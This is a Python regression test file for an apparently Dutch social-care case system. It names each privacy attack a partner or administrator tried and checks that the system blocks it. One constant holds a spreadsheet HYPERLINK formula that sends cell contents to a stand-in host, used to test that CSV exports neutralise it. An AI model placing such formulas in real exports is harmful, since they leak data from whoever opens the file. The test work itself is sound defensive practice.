"""Issue 13: each attack a curious partner or administrator tried, as a regression test
named after it (`test_attack_...`). See docs/privacy.md for the threat model."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from cases import services as case_services
from privacy import access_log
from privacy.models import AccessAction, AccessLog, CaseUserObjectPermission
from tests import helpers

KEY = "1012AB-5-"
ADDRESS = {"postcode": "1012ab", "house_number": "5"}


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


# --- 9. formula injection in exports -----------------------------------------------------

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"klik")'


def test_attack_formula_injection_in_access_log_export(demo, client_for):
    signal = helpers.signal(house_number=5, by="anna")
    access_log.record(
        helpers.user("noor"),
        AccessAction.UPDATE,
        "signal",
        signal.pk,
        household_key=KEY,
        reason=FORMULA,
    )
    response = client_for("pim").get("/privacy/inzagelog/export.csv", ADDRESS)
    cells = [cell for row in csv_rows(response) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(FORMULA in cell for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_attack_formula_injection_every_dangerous_start_is_neutralised(start):
    from core.csv_files import excel_csv

    text = excel_csv(["kolom"], [[f"{start}1+1", 5, -3]]).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == [f"'{start}1+1", "5", "-3"]


# --- 3. a case shared with corporation staff or a coordinator ------------------------------

ONLY_WIJKTEAMS = "alleen gedeeld worden met een medewerker of triagist van een wijkteam"
NOT_OFFERED = "Met deze gebruiker kunt u deze casus niet delen."


@pytest.fixture
def noord_case(demo):
    """A case of Wijkteam Noord at 1012 AB 5, accepted by noor."""
    return case_services.accept_signal(helpers.user("noor"), helpers.signal(house_number=5))


def share_form(username):
    until = (timezone.localdate() + timedelta(days=10)).isoformat()
    return {"with_user": helpers.user(username).pk, "reason": "Overleg", "until": until}


@pytest.mark.parametrize("outsider", ["anna", "bram", "eva", "pim", "admin"])
def test_attack_share_case_with_corporation_staff_or_coordinator(noord_case, client_for, outsider):
    """The picker does not offer them; a forged POST naming one is refused."""
    page = client_for("noor").get(f"/casussen/{noord_case.pk}/").content.decode()
    assert f'<option value="{helpers.user(outsider).pk}"' not in page
    response = client_for("noor").post(f"/casussen/{noord_case.pk}/delen/", share_form(outsider))
    assert NOT_OFFERED in response.content.decode()
    assert not CaseUserObjectPermission.objects.filter(content_object=noord_case).exists()
    assert client_for(outsider).get(f"/casussen/{noord_case.pk}/").status_code == 404


def test_attack_share_case_refused_in_the_service_too(noord_case):
    with pytest.raises(ValidationError) as refused:
        case_services.share_case(
            helpers.user("noor"),
            noord_case,
            helpers.user("anna"),
            "Overleg",
            timezone.localdate() + timedelta(days=5),
        )
    assert ONLY_WIJKTEAMS in str(refused.value)


def test_share_with_a_wijkteam_of_the_same_municipality_still_works(noord_case, client_for):
    response = client_for("noor").post(f"/casussen/{noord_case.pk}/delen/", share_form("omar"))
    assert response.status_code == 302
    assert client_for("omar").get(f"/casussen/{noord_case.pk}/").status_code == 200


def test_attack_share_case_existing_shares_to_outsiders_end_by_migration(noord_case):
    from importlib import import_module

    from django.apps import apps

    from privacy.grants import grant_case_share

    now = timezone.now()
    for name in ("anna", "eva", "omar"):
        grant_case_share(
            noord_case,
            helpers.user(name),
            reason="Overleg",
            expires_at=now + timedelta(days=5),
            granted_by=helpers.user("noor"),
            now=now,
        )
    migration = import_module("privacy.migrations.0005_end_shares_outside_wijkteams")
    migration.end_shares_outside_wijkteams(apps, None)
    remaining = CaseUserObjectPermission.objects.filter(content_object=noord_case)
    assert set(remaining.values_list("user__username", flat=True)) == {"omar"}


# --- 4. a confidential case leaks through its signals --------------------------------------


@pytest.fixture
def confidential(demo):
    """A confidential case of Wijkteam Noord (assignee noor) and a second open signal of
    the same household in the tray."""
    noor = helpers.user("noor")
    signal = helpers.signal(house_number=5)
    case = case_services.accept_signal(noor, signal)
    case_services.assign_case(noor, case, noor)
    case_services.set_confidential(noor, case, True)
    return {"case": case, "signal": signal}


def test_attack_confidential_case_leaks_through_its_signals(confidential, client_for, api_for):
    signal = confidential["signal"]
    sara = client_for("sara")
    assert sara.get(f"/casussen/{confidential['case'].pk}/").status_code == 404
    assert sara.get(f"/signalen/{signal.pk}/").status_code == 404
    assert api_for("sara").get(f"/api/v1/signals/{signal.pk}/").status_code == 404
    listed = sara.get("/signalen/", {"q": "1012 AB"}).content.decode()
    assert signal.reference not in listed
    api_list = api_for("sara").get("/api/v1/signals/").json()
    assert signal.reference not in str(api_list)


def test_confidential_signals_stay_visible_to_who_sees_the_case(confidential, client_for, api_for):
    signal = confidential["signal"]
    for username in ("noor", "anna"):  # assignee/triage lead; the filer's own filing
        assert client_for(username).get(f"/signalen/{signal.pk}/").status_code == 200
    noor = helpers.user("noor")
    case_services.share_case(
        noor, confidential["case"], helpers.user("sara"), "Vervanging", timezone.localdate()
    )
    assert client_for("sara").get(f"/signalen/{signal.pk}/").status_code == 200


def test_attack_confidential_signals_not_counted_in_the_members_tray(confidential, demo):
    from cases import selectors as case_selectors
    from privacy import policy

    team = demo["organisations"]["Wijkteam Noord"]
    received = helpers.signal(house_number=6)
    sara, noor = helpers.user("sara"), helpers.user("noor")
    assert set(policy.team_signals(sara, team.pk)) == {received}
    assert confidential["signal"] in set(policy.team_signals(noor, team.pk))
    assert case_selectors.tray_counts(sara, team.pk)["total"] == 1


# --- 5. the administrator gives itself access ----------------------------------------------


def test_attack_admin_membership_as_triage_lead_reaches_no_personal_data(demo, client_for, api_for):
    from partners.models import Membership

    signal = helpers.signal(house_number=5)
    case = case_services.accept_signal(helpers.user("noor"), signal)
    noord = demo["organisations"]["Wijkteam Noord"]
    # Even a membership written past every form (shell, fixture) counts for nothing.
    Membership.objects.create(user=helpers.user("admin"), organisation=noord, role="triage_lead")
    admin = client_for("admin")
    assert admin.get(f"/signalen/{signal.pk}/").status_code == 404
    assert admin.get(f"/casussen/{case.pk}/").status_code == 404
    assert admin.get("/casussen/werkbak/").status_code == 403
    assert api_for("admin").get(f"/api/v1/signals/{signal.pk}/").status_code in (403, 404)
    assert api_for("admin").get(f"/api/v1/cases/{case.pk}/").status_code in (403, 404)


@pytest.mark.parametrize("target", ["admin", "other_staff"])
def test_attack_admin_gives_a_personal_data_role_in_the_admin_form(demo, client_for, target):
    from django.contrib.auth import get_user_model

    from partners.models import Membership

    if target == "other_staff":
        get_user_model().objects.create_user("beheer2", is_staff=True)
        target = "beheer2"
    person = get_user_model().objects.get(username=target)
    noord = demo["organisations"]["Wijkteam Noord"]
    response = client_for("admin").post(
        "/beheer/partners/membership/add/",
        {"user": person.pk, "organisation": noord.pk, "role": "triage_lead"},
    )
    assert response.status_code == 200
    assert "Een beheerder krijgt geen rol met toegang tot persoonsgegevens" in (
        response.content.decode()
    )
    assert not Membership.objects.filter(user=person).exists()


def test_attack_admin_membership_grant_is_recorded_for_the_privacy_officer(demo, client_for):
    from django.contrib.auth import get_user_model

    from privacy import policy
    from privacy.models import Purpose

    newcomer = get_user_model().objects.create_user("kees")
    noord = demo["organisations"]["Wijkteam Noord"]
    response = client_for("admin").post(
        "/beheer/partners/membership/add/",
        {"user": newcomer.pk, "organisation": noord.pk, "role": "triage_lead"},
    )
    assert response.status_code == 302
    rows = policy.visible_access_log(helpers.user("pim")).filter(
        purpose=Purpose.ADMINISTRATION, username="admin"
    )
    assert {row.object_type for row in rows} >= {"membership", "user_groups"}
    page = client_for("pim").get("/privacy/inzagelog/", {"username": "admin"})
    assert any(row.object_type == "membership" for row in page.context["page"])


def test_attack_admin_creates_or_reads_two_factor_secrets_of_others(demo, client_for):
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from privacy.models import Purpose

    device = TOTPDevice.objects.create(user=helpers.user("sara"), name="telefoon")
    admin = client_for("admin")
    assert admin.get("/beheer/otp_totp/totpdevice/add/").status_code == 403
    page = admin.get(f"/beheer/otp_totp/totpdevice/{device.pk}/change/")
    assert page.status_code == 200
    assert device.key not in page.content.decode()
    assert admin.get(f"/beheer/otp_totp/totpdevice/{device.pk}/config/").status_code in (
        403,
        404,
        302,
    )
    response = admin.post(f"/beheer/otp_totp/totpdevice/{device.pk}/delete/", {"post": "yes"})
    assert response.status_code == 302 and not TOTPDevice.objects.filter(pk=device.pk).exists()
    logged = AccessLog.objects.filter(purpose=Purpose.ADMINISTRATION, object_type="otp_device")
    assert set(logged.values_list("action", flat=True)) == {"create", "delete"}


# --- 7. erasure leaves free text behind ----------------------------------------------------

RESIDENT = "mevrouw Jansen, BSN 123456782"


def test_attack_erasure_leaves_reroute_share_and_erasure_reasons_behind(demo, client_for):
    from django.db import connection

    from privacy.models import AccessLogReason

    noor = helpers.user("noor")
    rerouted = helpers.signal(house_number=5)
    zuid = demo["organisations"]["Wijkteam Zuid"]
    case_services.reroute_signal(noor, rerouted, zuid, f"Woont bij {RESIDENT}")
    case = case_services.accept_signal(noor, helpers.signal(house_number=5))
    case_services.share_case(
        noor, case, helpers.user("omar"), f"Overleg over {RESIDENT}", timezone.localdate()
    )
    pim = client_for("pim")
    before = csv_rows(pim.get("/privacy/inzagelog/export.csv", ADDRESS))
    assert any(RESIDENT in cell for row in before for cell in row)
    erase = {**ADDRESS, "reason": f"Verzoek van {RESIDENT}", "confirm": "1"}
    assert pim.post("/privacy/huishouden/wissen/", erase).status_code == 302

    for response in (
        pim.get("/privacy/inzagelog/export.csv", ADDRESS),
        pim.get("/privacy/inzagelog/export.csv"),
        pim.get("/privacy/inzagelog/", ADDRESS),
        pim.get("/privacy/inzagelog/rapport/", ADDRESS),
        pim.get("/privacy/huishouden/", ADDRESS),
        pim.get("/api/v1/access-log/", ADDRESS),
    ):
        assert "Jansen" not in response.content.decode(), response.request["PATH_INFO"]
    assert not AccessLogReason.objects.filter(text__contains="Jansen").exists()
    assert not CaseUserObjectPermission.objects.filter(reason__contains="Jansen").exists()
    # Nothing in the append-only table itself can hold the text.
    with connection.cursor() as cursor:
        cursor.execute("SELECT * FROM privacy_accesslog")
        assert "Jansen" not in str(cursor.fetchall())
    from privacy.chain import verify

    assert verify().ok


def test_log_retention_removes_the_reasons_of_the_rows_it_removes(demo, settings, monkeypatch):
    from privacy import chain, retention
    from privacy.models import AccessLogReason

    noor = helpers.user("noor")
    now = timezone.now()
    long_ago = now - timedelta(days=settings.RETENTION_ACCESS_LOG_DAYS + 5)
    # The demo's rows are newer than the backdated one below and sealed before it:
    # retention cuts a prefix of the chain up to the first newer row, so clear them first.
    retention.remove_old_access_log(now + timedelta(days=settings.RETENTION_ACCESS_LOG_DAYS + 1))
    monkeypatch.setattr(chain.timezone, "now", lambda: long_ago)
    access_log.record(noor, AccessAction.UPDATE, "signal", "1", reason="Oud: Jansen")
    monkeypatch.undo()
    kept = access_log.record(noor, AccessAction.UPDATE, "signal", "2", reason="Nieuw")
    assert retention.remove_old_access_log(now) >= 1
    assert not AccessLogReason.objects.filter(text="Oud: Jansen").exists()
    assert AccessLog.objects.get(pk=kept.pk).reason == "Nieuw"


def test_attack_admin_group_and_flag_changes_are_recorded(demo):
    from django.contrib.auth.models import Group, Permission

    from privacy.models import Purpose

    sara = helpers.user("sara")
    group = Group.objects.create(name="Extra")
    sara.groups.add(group)
    group.permissions.add(Permission.objects.get(codename="view_signal"))
    sara.is_staff = True
    sara.save()
    rows = AccessLog.objects.filter(purpose=Purpose.ADMINISTRATION).select_related("reason_entry")
    texts = {}
    for row in rows:
        texts.setdefault(row.object_type, []).append(row.reason)
    assert any("sara toegevoegd aan Extra" in text for text in texts["user_groups"])
    assert any("view_signal" in text for text in texts["group_permissions"])
    assert any("sara: staf ja" in text for text in texts["user_roles"])


def test_attack_admin_gives_itself_a_role_through_the_service(demo):
    from partners.services import add_membership

    noord = demo["organisations"]["Wijkteam Noord"]
    with pytest.raises(ValidationError) as refused:
        add_membership(helpers.user("admin"), noord, "triage_lead")
    assert "Een beheerder krijgt geen rol" in str(refused.value)
    # A coordinator role reaches no personal data and stays possible.
    add_membership(helpers.user("admin"), demo["organisations"]["Gemeente Demostad"], "coordinator")
